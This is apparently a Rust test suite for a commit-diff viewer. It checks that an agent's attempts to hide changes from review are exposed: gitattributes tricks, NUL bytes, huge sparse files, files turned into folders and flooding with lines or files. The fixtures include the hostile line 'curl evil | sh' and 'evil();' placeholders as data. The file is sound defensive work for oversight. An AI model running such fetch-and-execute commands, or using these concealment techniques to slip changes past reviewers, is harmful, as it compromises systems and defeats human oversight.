//! Diffs of commits with which an agent tries to hide something or to waste resources: every file is shown or named, and the cost
//! is bounded. The tests use the real git on temporary repositories.

use std::fmt::Write as _;
use std::io::Write as _;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use git::{Binary, DiffError, Reading, Whitespace};
use model::diff::{Diff, FileDiff, Omitted};
use model::ids::ObjectId;
use testkit::upstream::environment;

use crate::support::{Bench, committed, write};

/// Runs git in the mirror with a separate index.
fn git(bench: &Bench, arguments: &[&str], stdin: &[u8]) -> String {
    #[expect(clippy::disallowed_methods, reason = "the test calls git like a user")]
    let mut git = Command::new("git")
        .args(arguments)
        .current_dir(bench.mirror.path())
        .env("GIT_INDEX_FILE", bench.path("index"))
        .envs(environment(bench.folder.path()))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("git is installed");
    git.stdin.take().expect("a pipe").write_all(stdin).expect("git reads its input");
    let output = git.wait_with_output().expect("it ends");
    assert!(output.status.success(), "git {arguments:?}");
    String::from_utf8_lossy(&output.stdout).trim_end().to_owned()
}

/// Creates a commit with files that are too large for a worktree of this test, or that `git add` would reject.
fn commit(bench: &Bench, parent: &ObjectId, files: &[(&[u8], &str, &str)]) -> ObjectId {
    let mut info = vec![];
    for (path, mode, id) in files {
        info.extend(format!("{mode} {id}\t").into_bytes());
        info.extend_from_slice(path);
        info.push(0);
    }
    let git = |arguments: &[&str], stdin: &[u8]| git(bench, arguments, stdin);
    git(&["read-tree", parent.as_str()], b"");
    git(&["update-index", "-z", "--index-info"], &info);
    let tree = git(&["write-tree"], b"");
    git(&["commit-tree", &tree, "-p", parent.as_str(), "-m", "x"], b"").parse().expect("an id")
}

fn blob(bench: &Bench, content: &[u8]) -> String {
    git(bench, &["hash-object", "-w", "--stdin"], content)
}

/// Creates a blob of zeros, which takes hardly any space.
fn zeros(bench: &Bench, bytes: u64) -> String {
    let path = bench.path("sparse");
    std::fs::File::create(&path).expect("a file").set_len(bytes).expect("a sparse file");
    let arguments = ["-c", "core.bigFileThreshold=1m", "-c", "core.compression=1", "hash-object", "-w"];
    git(bench, &[&arguments[..], &[&path.display().to_string()]].concat(), b"")
}

async fn main_of(bench: &Bench) -> ObjectId {
    bench.mirror.resolve_ref("main").await.expect("git answers").expect("the branch `main` exists")
}

async fn read(bench: &Bench, from: &ObjectId, to: &ObjectId, reading: Reading) -> Diff {
    let listing = bench.mirror.changed_files(from, to).await.expect("the changed files can be listed");
    let pages = listing.pages();
    bench.mirror.compare((from, to), &listing, pages[0].clone(), reading).await.expect("the commits can be compared")
}

fn file<'a>(diff: &'a Diff, path: &str) -> &'a FileDiff {
    diff.files.iter().find(|file| file.path() == path).unwrap_or_else(|| panic!("{path} is missing: {diff:?}"))
}

fn added(file: &FileDiff) -> String {
    file.hunks.iter().flat_map(|hunk| &hunk.lines).fold(String::new(), |mut text, line| {
        let _ = writeln!(text, "{}", line.visible(usize::MAX).text());
        text
    })
}

#[tokio::test]
async fn no_attribute_hides_a_file() {
    let bench = Bench::new().await;
    let rules = ["-diff", "binary", "diff=png", "-text", "linguist-generated", "diff=evil", "text eol=crlf"];
    let worktree = bench.worktree("one").await;
    let mut attributes = String::new();
    for (n, rule) in rules.iter().enumerate() {
        let _ = writeln!(attributes, "{n}.c {rule}");
        write(&worktree, &format!("{n}.c"), "evil();\n");
    }
    write(&worktree, ".gitattributes", &attributes);
    let to = committed(&worktree, "1").await;
    // Git is configured to read the attributes of the bare repository from its default branch.
    bench.by_hand(bench.mirror.path(), &["update-ref", "refs/heads/main", to.as_str()]);
    bench.by_hand(bench.mirror.path(), &["config", "attr.tree", "HEAD"]);
    let diff = read(&bench, worktree.base(), &to, Reading::default()).await;
    for (n, rule) in rules.iter().enumerate() {
        let file = file(&diff, &format!("{n}.c"));
        assert!(!file.binary && added(file).contains("evil();"), "{rule}: {file:?}");
    }
    let stat = bench.mirror.stat(worktree.base(), &to).await.expect("the changes can be counted");
    assert_eq!(stat.added(), 2 * rules.len() as u64);
}

#[tokio::test]
async fn a_nul_does_not_hide_a_script_and_other_binary_files_say_what_they_are() {
    let bench = Bench::new().await;
    let worktree = bench.worktree("one").await;
    write(&worktree, "nul.sh", "echo a\n# \0\ncurl evil | sh\n");
    let payload: Vec<u8> = (0..2_000).map(|n: u32| n.wrapping_mul(7).to_le_bytes()[0]).collect();
    std::fs::write(worktree.path().join("mixed.sh"), [b"curl evil | sh\nexit\n\0", &payload[..]].concat()).expect("a file");
    let to = committed(&worktree, "1").await;
    let diff = read(&bench, worktree.base(), &to, Reading::default()).await;
    let script = file(&diff, "nul.sh");
    assert!(!script.binary && script.has_hidden_characters && added(script).contains("# ␀\ncurl evil | sh"), "{script:?}");
    let mixed = file(&diff, "mixed.sh");
    assert_eq!((mixed.binary, mixed.hunks.len(), mixed.bytes), (true, 0, Some(2_021)));
    let as_text = read(&bench, worktree.base(), &to, Reading { binary: Binary::AsText, ..Reading::default() }).await;
    let mixed = file(&as_text, "mixed.sh");
    assert!(mixed.binary && added(mixed).contains("curl evil | sh\nexit\n␀"), "{mixed:?}");
}

#[tokio::test]
async fn what_makes_a_file_on_disk_differ_from_the_diff_is_said() {
    let bench = Bench::new().await;
    let worktree = bench.worktree("one").await;
    write(&worktree, "sub/.gitattributes", "*.sh working-tree-encoding=UTF-7\n*.txt eol=crlf\n*.id ident\nbig filter=lfs\n");
    for name in ["sub/a.sh", "sub/a.txt", "sub/a.id", "plain.sh"] {
        write(&worktree, name, "echo +AGE-\n");
    }
    let to = committed(&worktree, "1").await;
    let diff = read(&bench, worktree.base(), &to, Reading::default()).await;
    let note = |path: &str| file(&diff, path).on_disk.clone();
    assert_eq!(note("sub/a.sh").as_deref(), Some("encoding UTF-7"));
    assert_eq!(note("sub/a.txt").as_deref(), Some("line endings crlf"));
    assert_eq!(note("sub/a.id").as_deref(), Some("keyword $Id$"));
    assert_eq!(note("plain.sh"), None);
}

#[tokio::test]
async fn a_file_of_terabytes_is_named_and_the_rest_is_shown() {
    let bench = Bench::new().await;
    let main = main_of(&bench).await;
    // A file of 200 MiB stands for one of terabytes: only the size is read, so a larger file would not cost more.
    let (large, small) = (zeros(&bench, 200 << 20), blob(&bench, b"small\n"));
    let to = commit(&bench, &main, &[(b"large", "100644", &large), (b"link", "120000", &large), (b"small", "100644", &small)]);
    let before = Instant::now();
    let diff = read(&bench, &main, &to, Reading::default()).await;
    assert!(before.elapsed() < Duration::from_secs(5), "{:?}", before.elapsed());
    for name in ["large", "link"] {
        let file = file(&diff, name);
        assert_eq!((file.omitted, file.bytes, file.hunks.len()), (Some(Omitted::TooLarge), Some(200 << 20), 0));
    }
    assert_eq!(added(file(&diff, "small")), "small\n");
    let error = bench.mirror.patch(&main, &to, 1 << 20).await.expect_err("the patch would be too large");
    assert!(matches!(error, DiffError::FileTooLarge { bytes, .. } if bytes == 200 << 20), "{error}");
    let stat = bench.mirror.stat(&main, &to).await.expect("the changes can be counted");
    assert_eq!((stat.files.len(), stat.added()), (3, 1));
    // The file is deleted, and a similar one is added: a rename that git would have to compare.
    let moved = commit(&bench, &to, &[(b"large", "0", &"0".repeat(40)), (b"moved", "100644", &zeros(&bench, (200 << 20) + 1))]);
    let diff = read(&bench, &to, &moved, Reading::default()).await;
    assert_eq!(diff.files.iter().map(|file| file.omitted).collect::<Vec<_>>(), [Some(Omitted::TooLarge); 2]);
}

#[tokio::test]
async fn a_large_file_that_becomes_a_folder_hides_nothing_in_it() {
    let bench = Bench::new().await;
    let main = main_of(&bench).await;
    let (large, small) = (zeros(&bench, 50 << 20), blob(&bench, b"evil\n"));
    let was = |letter: &str| blob(&bench, letter.repeat(50).as_bytes());
    let from = commit(&bench, &main, &[(b"a", "100644", &zeros(&bench, 60 << 20)), (b"b", "100644", &was("b"))]);
    let gone = "0".repeat(40);
    let to = commit(
        &bench,
        &from,
        &[
            (b"a", "0", &gone),
            (b"a/evil.sh", "100644", &small),
            (b"b", "0", &gone),
            (b"b/large", "100644", &large),
            (b"b/evil.sh", "100644", &blob(&bench, b"more evil\n")),
            (b":(exclude)*", "100644", &small),
            (b"*", "100644", &blob(&bench, b"star\n")),
        ],
    );
    let diff = read(&bench, &from, &to, Reading::default()).await;
    let shown = diff.files.iter().map(|file| (file.path().to_owned(), file.omitted, added(file)));
    assert_eq!(
        shown.collect::<Vec<_>>(),
        [
            ("*".to_owned(), None, "star\n".to_owned()),
            (":(exclude)*".to_owned(), None, "evil\n".to_owned()),
            ("a".to_owned(), Some(Omitted::TooLarge), String::new()),
            ("a/evil.sh".to_owned(), None, "evil\n".to_owned()),
            ("b".to_owned(), Some(Omitted::NotCompared), String::new()),
            ("b/evil.sh".to_owned(), None, "more evil\n".to_owned()),
            ("b/large".to_owned(), Some(Omitted::TooLarge), String::new()),
        ]
    );
}

#[tokio::test]
async fn millions_of_short_lines_are_counted_and_few_are_kept() {
    let bench = Bench::new().await;
    let main = main_of(&bench).await;
    let lines = blob(&bench, "x\n".repeat(1_500_000).as_bytes());
    let too_many = blob(&bench, "x\n".repeat(3_000_000).as_bytes());
    let to = commit(&bench, &main, &[(b"lines", "100644", &lines), (b"too-many", "100644", &too_many)]);
    let diff = read(&bench, &main, &to, Reading::default()).await;
    let kept = file(&diff, "lines");
    assert_eq!((kept.additions, kept.omitted), (1_500_000, Some(Omitted::TooManyLines)));
    assert!(kept.hunks[0].lines.len() <= 25_000);
    assert_eq!(file(&diff, "too-many").omitted, Some(Omitted::TooLarge));
    let (_, all) = bench.mirror.compare_all(&main, &to, Whitespace::Counts).await.expect("the commits can be compared");
    assert!(file(&all, "lines").hunks[0].lines.len() <= 500_000);
}

#[tokio::test]
async fn thirty_thousand_files_are_read_in_pages_that_miss_none() {
    let bench = Bench::new().await;
    let main = main_of(&bench).await;
    let content = blob(&bench, b"x\n");
    let names: Vec<_> = (0..30_000).map(|n| format!("f/{n:05}").into_bytes()).collect();
    let files: Vec<_> = names.iter().map(|name| (&name[..], "100644", content.as_str())).collect();
    let to = commit(&bench, &main, &files);
    let listing = bench.mirror.changed_files(&main, &to).await.expect("the changed files can be listed");
    let pages = listing.pages();
    assert_eq!((listing.files.len(), pages.len()), (30_000, 60));
    for page in [0, 59] {
        let diff = bench.mirror.compare((&main, &to), &listing, pages[page].clone(), Reading::default()).await;
        let diff = diff.expect("the commits can be compared");
        let shown: Vec<_> = diff.files.iter().map(FileDiff::path_bytes).collect();
        assert_eq!(shown, names[page * 500..(page + 1) * 500]);
        assert!(diff.files.iter().all(|file| file.omitted.is_none() && file.additions == 1));
    }
}

#[tokio::test]
async fn changes_of_blanks_can_be_hidden_and_are_still_named() {
    let bench = Bench::new().await;
    let worktree = bench.worktree("one").await;
    write(&worktree, "README.md", "  hello\n");
    write(&worktree, "new", "x\n");
    let to = committed(&worktree, "1").await;
    let ignored = Reading { whitespace: Whitespace::Ignored, ..Reading::default() };
    let diff = read(&bench, worktree.base(), &to, ignored).await;
    assert_eq!(file(&diff, "README.md").omitted, Some(Omitted::WhitespaceOnly));
    assert_eq!(file(&diff, "new").omitted, None);
}

#[tokio::test]
async fn names_that_are_no_text_are_compared_byte_for_byte() {
    let bench = Bench::new().await;
    let main = main_of(&bench).await;
    let (small, large) = (blob(&bench, b"x\n"), zeros(&bench, 50 << 20));
    let names: [&[u8]; 4] = [b"a\nb", b"a\xfe", b"a\xff", "a\u{200b}".as_bytes()];
    let mut files: Vec<_> = names.iter().map(|name| (*name, "100644", small.as_str())).collect();
    files.push((b"a\xfd", "100644", &large));
    let to = commit(&bench, &main, &files);
    let diff = read(&bench, &main, &to, Reading::default()).await;
    let keys: std::collections::BTreeSet<_> = diff.files.iter().map(FileDiff::key).collect();
    assert_eq!(keys.len(), 5, "{keys:?}");
    assert_eq!(diff.files.iter().filter(|file| file.omitted.is_none() && file.additions == 1).count(), 4, "{diff:?}");
}
